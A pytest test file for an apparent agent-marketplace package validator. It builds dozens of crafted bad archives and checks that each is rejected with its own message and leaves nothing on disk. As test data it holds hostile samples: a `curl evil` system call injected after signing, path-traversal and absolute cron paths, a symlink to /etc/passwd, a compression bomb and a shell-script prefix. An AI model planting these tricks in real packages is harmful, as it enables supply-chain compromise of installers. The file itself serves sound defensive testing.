"""The corpus of crafted bad packages: each is rejected with its own message, writing nothing.

Every case is one deviation from a valid package. The validator must name the file or
field and the reason; ``stage_package`` (the way in for installing) must leave nothing on
disk; and no two cases may share a reason, so each attack is told apart.
"""

from __future__ import annotations

import hashlib
import stat
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from paulyops.core.security.signatures import generate_key
from paulyops.services.marketplace.archive import Limits, write_canonical
from paulyops.services.marketplace.build import assemble
from paulyops.services.marketplace.errors import PackageError
from paulyops.services.marketplace.integrity import (
    checksums_text,
    render_checksums,
    signature_text,
)
from paulyops.services.marketplace.validate import (
    AvailableAgent,
    Runtime,
    stage_package,
    validate_package,
)
from tests.services.marketplace.packages import Raw, agent_files, raw_zip, signed_package, trust

KEY = generate_key()
OTHER_KEY = generate_key()


@dataclass
class Case:
    """A bad package, how to validate it, and the failure it must produce."""

    build: Callable[[], bytes]
    check: str
    reason: str
    options: dict[str, object] = field(default_factory=dict)


def _canonical(files: dict[str, bytes], *, sign: bool = True) -> bytes:
    return assemble(files, KEY if sign else None)


def _valid_entries() -> list[Raw]:
    """The entries of the valid unsigned package, with canonical fields."""
    files = agent_files()
    files["CHECKSUMS"] = checksums_text(files)
    return [Raw(name, data) for name, data in sorted(files.items())]


def _with_entries(*extra: Raw) -> bytes:
    """A raw zip of the valid files (stored, canonical fields) plus ``extra`` entries."""
    return raw_zip([*_valid_entries(), *extra])


def _changed_after_signing() -> bytes:
    files = agent_files()
    signed = {**files, "CHECKSUMS": checksums_text(files)}
    signature = signature_text(KEY, signed["CHECKSUMS"])
    files["agent.py"] += b"import os; os.system('curl evil')\n"
    return write_canonical({**files, "CHECKSUMS": checksums_text(files), "SIGNATURE": signature})


def _manifest_lies() -> bytes:
    files = agent_files()
    checksums = checksums_text(files)
    files["manifest.toml"] = files["manifest.toml"].replace(
        b'["alerts:raise"]', b'["alerts:raise", "network"]'
    )
    return write_canonical({**files, "CHECKSUMS": checksums})


def _checksums_without(name: str) -> bytes:
    files = agent_files()
    digests = {n: hashlib.sha256(d).hexdigest() for n, d in files.items()}
    del digests[name]
    return write_canonical({**files, "CHECKSUMS": render_checksums(digests)})


def _checksums_with_extra() -> bytes:
    files = agent_files()
    digests = {n: hashlib.sha256(d).hexdigest() for n, d in files.items()}
    digests["ghost.py"] = "0" * 64
    return write_canonical({**files, "CHECKSUMS": render_checksums(digests)})


def _unsorted() -> bytes:
    files = agent_files()
    files["CHECKSUMS"] = checksums_text(files)
    entries = [Raw(name, data) for name, data in sorted(files.items(), reverse=True)]
    return raw_zip(entries)


def _zero_bomb() -> bytes:
    return _with_entries(Raw("zz.bin", b"\0" * (8 * 1024 * 1024), method=8))


CASES: dict[str, Case] = {
    "absolute path": Case(
        lambda: _with_entries(Raw("/etc/cron.d/evil", b"x")), "archive", "is an absolute path"
    ),
    "dot-dot": Case(lambda: _with_entries(Raw("lib/../../evil.py", b"x")), "archive", "climbs out"),
    "backslash": Case(
        lambda: _with_entries(Raw("lib\\evil.py", b"x")), "archive", "holds a backslash"
    ),
    "drive letter": Case(
        lambda: _with_entries(Raw("C:/evil.py", b"x")), "archive", "starts with a drive letter"
    ),
    "symlink": Case(
        lambda: _with_entries(Raw("zlink", b"/etc/passwd", mode=stat.S_IFLNK | 0o777)),
        "archive",
        "is a symbolic link",
    ),
    "directory entry": Case(
        lambda: _with_entries(Raw("zdir/", b"", mode=stat.S_IFDIR | 0o755)),
        "archive",
        "is a directory entry",
    ),
    "fifo": Case(
        lambda: _with_entries(Raw("zfifo", b"", mode=stat.S_IFIFO | 0o644)),
        "archive",
        "is not a regular file",
    ),
    "duplicate name": Case(
        lambda: _with_entries(Raw("agent.py", b"evil = 1\n")), "archive", "appears twice"
    ),
    "case collision": Case(
        lambda: _with_entries(Raw("Agent.py", b"x")), "archive", "after case folding"
    ),
    "unicode collision": Case(
        lambda: _with_entries(Raw("caf\u00e9.py", b"x"), Raw("cafe\u0301.py", b"y")),
        "archive",
        "Unicode normalization",
    ),
    "file and folder": Case(
        lambda: _with_entries(Raw("agent.py/x.py", b"x")),
        "archive",
        "is both a file and the folder",
    ),
    "folder case collision": Case(
        lambda: _with_entries(Raw("Lib/other.py", b"x")),
        "archive",
        "folder 'Lib' collides with 'lib'",
    ),
    "non-ascii name": Case(
        lambda: _with_entries(Raw("r\u00e9sum\u00e9.py", b"x")), "archive", "name is not ASCII"
    ),
    "control character": Case(
        lambda: _with_entries(Raw("a\x00b.py", b"x")), "archive", "control character"
    ),
    "encrypted entry": Case(
        lambda: _with_entries(Raw("zsecret.py", b"x", flags=0x1)), "archive", "is encrypted"
    ),
    "bzip2 method": Case(
        lambda: _with_entries(Raw("zz.py", b"x", method=12)),
        "archive",
        "compression method 12",
    ),
    "compression bomb": Case(_zero_bomb, "archive", "compression ratio above 100"),
    "header lies about size": Case(
        lambda: _with_entries(Raw("zz.py", bytes(range(256)) * 4, method=8, declared_size=10)),
        "archive",
        "more than its declared 10 bytes",
    ),
    "too large unpacked": Case(
        lambda: _with_entries(Raw("zz.bin", b"a" * 60_000), Raw("zz2.bin", b"b" * 60_000)),
        "archive",
        "unpacks past the limit of 100000 bytes",
        {"limits": Limits(max_unpacked_bytes=100_000)},
    ),
    "too many files": Case(
        lambda: _with_entries(*[Raw(f"z{i}.py", b"") for i in range(3)]),
        "archive",
        "over the limit of 5",
        {"limits": Limits(max_files=5)},
    ),
    "huge manifest": Case(
        lambda: _canonical(
            {**agent_files(), "manifest.toml": agent_files()["manifest.toml"] + b"#" * 70_000}
        ),
        "archive",
        "larger than the limit of 65536 bytes",
    ),
    "not a zip": Case(lambda: b"MZ\x90\x00 not a zip at all", "archive", "not a readable zip"),
    "real timestamp": Case(
        lambda: _with_entries(Raw("zz.py", b"x", dos_date=(44 << 9) | (3 << 5) | 7)),
        "archive",
        "its date differs",
    ),
    "extra field": Case(
        lambda: _with_entries(Raw("zz.py", b"x", extra=b"UT\x05\x00\x01\x00\x00\x00\x00")),
        "archive",
        "its extra field differs",
    ),
    "executable mode": Case(
        lambda: _with_entries(Raw("zz.py", b"x", mode=0o100755)),
        "archive",
        "its mode (external attributes) differs",
    ),
    "deflated entry": Case(
        lambda: _with_entries(Raw("zz.py", b"print('hi')\n" * 4, method=8)),
        "archive",
        "is compressed",
    ),
    "unsorted entries": Case(_unsorted, "archive", "is out of order"),
    "archive comment": Case(
        lambda: raw_zip(_valid_entries(), comment=b"hi!"), "archive", "has an archive comment"
    ),
    "prepended data": Case(
        lambda: raw_zip(_valid_entries(), prefix=b"#!/bin/sh\nexit 0\n"),
        "archive",
        "has data before it",
    ),
    "trailing data": Case(
        lambda: raw_zip(_valid_entries(), suffix=b"hidden"),
        "archive",
        "end of the central directory is not canonical",
    ),
    "changed after signing": Case(_changed_after_signing, "signature", "changed after signing"),
    "manifest lies about its checksum": Case(
        _manifest_lies, "checksums", "manifest.toml: sha256 does not match CHECKSUMS"
    ),
    "CHECKSUMS misses an entry": Case(
        lambda: _checksums_without("lib/words.py"),
        "checksums",
        "lib/words.py: is in the archive but not listed",
    ),
    "CHECKSUMS lists an extra entry": Case(
        _checksums_with_extra,
        "checksums",
        "ghost.py: is listed in CHECKSUMS but not in the archive",
    ),
    "CHECKSUMS missing": Case(
        lambda: write_canonical(agent_files()), "checksums", "CHECKSUMS is missing"
    ),
    "untrusted key": Case(
        lambda: assemble(agent_files(), OTHER_KEY), "signature", "which is not a trusted key"
    ),
    "key outside its namespace": Case(
        lambda: signed_package(KEY, agent_id="other.hello"),
        "signature",
        "trusted only for acme.*, not for other.hello",
    ),
    "unsigned": Case(
        lambda: _canonical(agent_files(), sign=False), "signature", "unsigned packages are refused"
    ),
    "unknown capability": Case(
        lambda: signed_package(KEY, capabilities='["network", "shell:exec"]'),
        "manifest",
        "unknown capability 'shell:exec'",
    ),
    "reserved prefix": Case(
        lambda: signed_package(KEY, agent_id="paulyops.hello"),
        "manifest",
        "reserved for agents bundled with PaulyOps",
        {"trusted": trust(KEY, "paulyops")},
    ),
    "entrypoint missing": Case(
        lambda: _canonical({k: v for k, v in agent_files().items() if k != "agent.py"}),
        "manifest",
        "module 'agent' is not in the package",
    ),
    "incompatible paulyops": Case(
        lambda: signed_package(KEY, paulyops=">=9"),
        "compatibility",
        "needs PaulyOps >=9, this is 0.1.0",
    ),
    "wrong platform": Case(
        lambda: signed_package(KEY),
        "compatibility",
        "runs on linux, this is windows",
        {"runtime": Runtime(platform="windows")},
    ),
    "missing dependency": Case(
        lambda: signed_package(KEY, agents={"acme.base": ">=1"}),
        "dependencies",
        "needs acme.base, which is not available",
    ),
    "incompatible dependency": Case(
        lambda: signed_package(KEY, agents={"acme.base": ">=2"}),
        "dependencies",
        "needs acme.base >=2; available: 1.4.0",
        {"available": [AvailableAgent("acme.base", "1.4.0")]},
    ),
    "cyclic dependency": Case(
        lambda: signed_package(KEY, agents={"acme.base": ">=1"}),
        "dependencies",
        "cycle acme.hello -> acme.base -> acme.hello",
        {"available": [AvailableAgent("acme.base", "1.0.0", {"acme.hello": ">=1"})]},
    ),
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_bad_package_is_rejected_with_its_own_message(name: str, tmp_path: Path) -> None:
    """The case fails exactly its check with its reason; staging it leaves nothing behind."""
    case = CASES[name]
    package = tmp_path / "bad.pauly"
    package.write_bytes(case.build())
    options: dict[str, object] = {"trusted": trust(KEY), **case.options}
    report = validate_package(package, **options)  # type: ignore[arg-type]
    failed = report.failures()
    assert [c.name for c in failed][:1] == [case.check], report.checks
    assert case.reason in failed[0].message
    staging = tmp_path / "staging"
    with pytest.raises(PackageError):
        stage_package(package, staging, **options)  # type: ignore[arg-type]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.pauly"]


def test_corpus_is_large_and_every_reason_is_distinct(tmp_path: Path) -> None:
    """At least 20 attacks, and no two rejected for the same message."""
    assert len(CASES) >= 20
    messages = []
    for name, case in CASES.items():
        package = tmp_path / f"{len(messages)}.pauly"
        package.write_bytes(case.build())
        options: dict[str, object] = {"trusted": trust(KEY), **case.options}
        report = validate_package(package, **options)  # type: ignore[arg-type]
        messages.append((report.failures()[0].message, name))
    assert len({m for m, _ in messages}) == len(messages), messages


def test_the_valid_package_of_the_corpus_passes(tmp_path: Path) -> None:
    """The corpus's base package is valid, so each case fails for its own deviation only."""
    package = tmp_path / "good.pauly"
    package.write_bytes(signed_package(KEY))
    report = validate_package(package, trusted=trust(KEY))
    assert report.is_ok, report.checks
    assert report.signed_by is not None
